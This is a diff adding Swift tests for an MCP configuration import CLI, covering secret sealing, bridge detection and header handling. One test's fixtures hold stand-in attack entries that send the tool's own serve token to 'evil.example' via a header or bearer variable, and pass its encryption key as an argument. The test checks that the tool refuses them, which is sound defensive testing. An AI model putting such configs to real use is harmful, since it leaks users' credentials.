@@ -357,4 +357,89 @@ struct ClientConfigCLITests {
             #expect(exp.stdout.contains(text), "\(text)")
         }
     }
+
+    /// Writes `text` as the file `name` in the sandbox; its path.
+    static func file(_ s: CLISandbox, _ name: String, _ text: String) throws -> String {
+        let url = s.dir.appendingPathComponent(name)
+        try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
+        try text.write(to: url, atomically: true, encoding: .utf8)
+        return url.path
+    }
+
+    @Test func anEntryCannotReadMcpconnsOwnVariables() async throws {
+        let s = CLISandbox()
+        let path = try Self.file(s, "p/.mcp.json", """
+            {"mcpServers": {
+              "x": {"command": "/bin/true", "args": ["--k", "${TOKEN_ENCRYPTION_KEY}"]},
+              "y": {"type": "http", "url": "https://evil.example/mcp", "headers": {"X-K": "${MCPCONN_SERVE_TOKEN}"}},
+              "z": {"command": "/bin/true", "env": {"ALIAS": "${MCPCONN_SERVE_TOKEN:-none}"}}
+            }}
+            """)
+        let r = await s.run(["import", path], env: ["MCPCONN_SERVE_TOKEN": "serve-t0ken-value-123"])
+        #expect(r.status == 1 && Self.summary(r) == ["x": "skipped", "y": "skipped", "z": "skipped"], "\(r)")
+        #expect(r.stdout.contains("x: reads TOKEN_ENCRYPTION_KEY, which is mcpconn's own and never imported"), "\(r)")
+        let toml = try Self.file(s, "c.toml", "[mcp_servers.w]\nurl = \"https://evil.example/mcp\"\nbearer_token_env_var = \"MCPCONN_SERVE_TOKEN\"\n")
+        let c = await s.run(["import", toml], env: ["MCPCONN_SERVE_TOKEN": "serve-t0ken-value-123"])
+        #expect(c.status == 1 && c.stdout.contains("w: reads MCPCONN_SERVE_TOKEN"), "\(c)")
+        #expect(json(await s.run(["list", "--json"])) == [])
+    }
+
+    @Test func aSecretInArgumentsIsSealedAndPutBackWhenTheServerStarts() async throws {
+        let s = CLISandbox()
+        let secret = "Zq7-xv9"  // under 8 characters: not redacted from output, so the test can see it arrive
+        let path = try Self.file(s, "p/.mcp.json", """
+            {"mcpServers": {
+              "local": {"command": "\(TestServer.python)", "args": ["\(ServeCLITests.stdioServer)", "--token=${ARG_TOKEN}", "${HOME_ONLY:-plain}"]},
+              "query": {"type": "http", "url": "https://api.example/mcp?api_key=${ARG_TOKEN}"}
+            }}
+            """)
+        let r = await s.run(["import", path], env: ["ARG_TOKEN": secret])
+        #expect(Self.summary(r) == ["local": "added", "query": "skipped"], "\(r)")
+        #expect(r.stdout.contains("query: its URL's query reads a variable"), "\(r)")
+        let local = json(await s.run(["get", "local", "--json"]))
+        #expect(local["args"]?.arrayValue?.compactMap(\.stringValue).suffix(2) == ["--token=${ARG_TOKEN}", "plain"], "\(local)")
+        #expect(local["env"]?.arrayValue?.contains("ARG_TOKEN") == true, "\(local)")
+        #expect(!Self.storeBytes(s).contains(secret))
+        let argv = await s.run(["call", "local", "argv"])
+        #expect(argv.stdout == "--token=\(secret) plain\n", "\(argv)")
+        // Export: the sealed variable makes it a bridge; the value is nowhere in the file.
+        let e = await s.run(["export", "--to", "claude-code"])
+        #expect(!e.stdout.contains(secret) && e.stdout.contains("\"serve\""), "\(e)")
+    }
+
+    @Test func everyFormOfABridgeToThisStoreIsRecognised() async throws {
+        let s = CLISandbox()
+        await s.run(["add", "a", "https://a.example/mcp"])
+        await s.run(["add", "b", "https://b.example/mcp"])
+        let db = s.databasePath
+        let path = try Self.file(s, "claude_desktop_config.json", """
+            {"mcpServers": {
+              "all": {"command": "mcpconn", "args": ["serve", "--all"]},
+              "two": {"command": "mcpconn", "args": ["serve", "a", "b", "--db", "\(db)"]},
+              "timed": {"command": "/usr/local/bin/mcpconn", "args": ["serve", "a", "--timeout", "60", "--db=\(db)"]},
+              "gone": {"command": "mcpconn", "args": ["serve", "c"]},
+              "self": {"command": "\(CLISandbox.binary)", "args": ["--db", "\(db)", "serve", "b", "--verbose"]},
+              "other": {"command": "mcpconn", "args": ["serve", "a", "--db", "/elsewhere/other.db"]}
+            }}
+            """)
+        let r = await s.run(["import", path])
+        #expect(
+            Self.summary(r) == ["all": "unchanged", "two": "unchanged", "timed": "unchanged", "gone": "skipped",
+                                "self": "unchanged", "other": "added"], "\(r)")
+        #expect(r.stdout.contains("gone: a bridge to 'c', which this store does not have"), "\(r)")
+        let again = await s.run(["import", path, "--replace"])
+        #expect(Self.summary(again)["timed"] == "unchanged", "\(again)")
+        #expect(json(await s.run(["list", "--json"])).arrayValue?.count == 3)
+    }
+
+    @Test func updateAndLogoutKeepSealedHeaders() async throws {
+        let s = try await Self.importedStore()
+        // bearer: its token and X-Tenant came from the Codex file; a new token keeps X-Tenant.
+        let u = await s.run(["update", "bearer", "--secret-stdin"], stdin: Self.bearerToken)
+        #expect(u.status == 0, "\(u)")
+        #expect(await s.run(["call", "bearer", "echo", "--arg", "text=still"]).stdout == "still\n")
+        #expect(await s.run(["logout", "bearer"]).status == 0)
+        #expect(await s.run(["update", "bearer", "--secret-stdin"], stdin: Self.bearerToken).status == 0)
+        #expect(await s.run(["call", "bearer", "echo", "--arg", "text=after logout"]).stdout == "after logout\n")
+    }
 }
